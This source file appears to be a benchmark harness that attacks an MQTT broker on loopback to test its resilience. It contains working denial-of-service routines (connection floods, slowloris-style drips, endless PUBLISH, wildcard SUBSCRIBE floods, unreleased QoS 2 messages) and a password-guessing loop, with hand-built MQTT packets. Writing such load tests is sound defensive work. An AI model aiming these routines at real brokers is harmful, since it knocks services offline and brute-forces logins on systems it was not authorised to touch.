/**
 * `node attacker.mjs ATTACK PORT`: attacks an MQTT broker on loopback until it is ended, or its standard input is: nobody is left
 * attacked when a bench is broken off. From an address that is not that of others. Prints a line when it has begun.
 */
import { connect } from "node:net";

const ATTACKER = "127.0.0.2";
process.stdin.on("end", () => process.exit()).resume();
const [name, port] = [process.argv[2] ?? "", Number(process.argv[3])];

const ATTACKS = {
  /** 5,000 connections in a burst, and again each second: nothing is sent. */
  flood() {
    bursts(() => ATTACKER);
  },
  /** The same from 250 addresses. */
  spread() {
    bursts((i) => `127.0.1.${(i % 250) + 1}`);
  },
  /** 500 connections, each of which sends CONNECT byte by byte, one a second. */
  loris() {
    many(500, (one) => drip(one, connectPacket("loris", {}), 1000));
  },
  /** 200 clients in the middle of a PUBLISH that never ends. */
  middle() {
    many(200, (one, i) => {
      one.write(connectPacket(`middle-${i}`, {}));
      drip(one, Buffer.concat([Buffer.from([0x30, 0xff, 0x7f, 0, 1, 97]), Buffer.alloc(500)]), 200);
    });
  },
  /** Wrong passwords, as fast as they are answered, from 100 connections. */
  guess() {
    guesses(() => ATTACKER);
  },
  /** The same from 50 addresses. */
  crowd() {
    guesses((i) => `127.0.1.${(i % 50) + 1}`);
  },
  /** SUBSCRIBE after SUBSCRIBE, each with 50 new filters full of wildcards. */
  subscribe() {
    many(10, (one, i) => {
      one.write(connectPacket(`subscribe-${i}`, {}));
      let n = 0;
      const more = () => {
        const filters = Array.from({ length: 50 }, () => `+/${i}/${n++}/+/+/+/+/#`);
        one.write(subscribePacket(filters));
      };
      one.on("data", () => setTimeout(more, 10));
    });
  },
  /** QoS 2 messages that are never released. */
  halfopen() {
    const attack = (i) => {
      const one = socket();
      one.write(connectPacket(`half-${i}`, {}));
      one.on("close", () => setTimeout(attack, 100, i));
      let id = 1;
      one.on("data", () => {
        const packets = Array.from({ length: 50 }, () => {
          id = (id % 65_535) + 1;
          return Buffer.from([0x34, 5, 0, 1, 97, id >> 8, id & 255]);
        });
        one.write(Buffer.concat(packets));
      });
    };
    for (let i = 0; i < 20; i++) attack(i);
  },
};

const attack = Object.hasOwn(ATTACKS, name) ? ATTACKS[name] : undefined;
if (attack === undefined) throw new Error(`there is no attack ${name}`);
attack();
setTimeout(() => console.log("begun"), 500);

function socket(localAddress = ATTACKER) {
  return connect({ port, host: "127.0.0.1", localAddress }).on("error", () => {});
}

function bursts(addressOf) {
  const burst = () => {
    for (let i = 0; i < 5000; i++) socket(addressOf(i)).on("connect", destroyLater);
  };
  burst();
  setInterval(burst, 1000);
}

function guesses(addressOf) {
  const guess = (i) => {
    const one = socket(addressOf(i));
    one.write(connectPacket(`guess-${i}`, { user: "ann", password: `wrong-${Math.random()}` }));
    one.on("data", () => one.destroy());
    one.on("close", () => setTimeout(guess, 5, i));
  };
  for (let i = 0; i < 100; i++) guess(i);
}

function destroyLater() {
  setTimeout(() => this.destroy(), 300);
}

function many(count, each) {
  for (let i = 0; i < count; i++) {
    const again = () => {
      const one = socket();
      one.on("close", () => setTimeout(again, 200));
      each(one, i);
    };
    again();
  }
}

function drip(one, bytes, ms) {
  let at = 0;
  const timer = setInterval(() => {
    if (at < bytes.length) one.write(bytes.subarray(at, ++at));
  }, ms);
  one.on("close", () => clearInterval(timer));
}

function text(value) {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([bytes.length >> 8, bytes.length & 255]), bytes]);
}

function packet(header, body) {
  const length = body.length < 128 ? [body.length] : [(body.length & 127) | 128, body.length >> 7];
  return Buffer.concat([Buffer.from([header, ...length]), body]);
}

function connectPacket(clientId, { user, password }) {
  const flags = user === undefined ? 2 : 0xc2;
  const parts = [text("MQTT"), Buffer.from([4, flags, 0, 60]), text(clientId)];
  if (user !== undefined) parts.push(text(user), text(password));
  return packet(0x10, Buffer.concat(parts));
}

function subscribePacket(filters) {
  const each = filters.map((filter) => Buffer.concat([text(filter), Buffer.from([1])]));
  return packet(0x82, Buffer.concat([Buffer.from([0, 1]), ...each]));
}
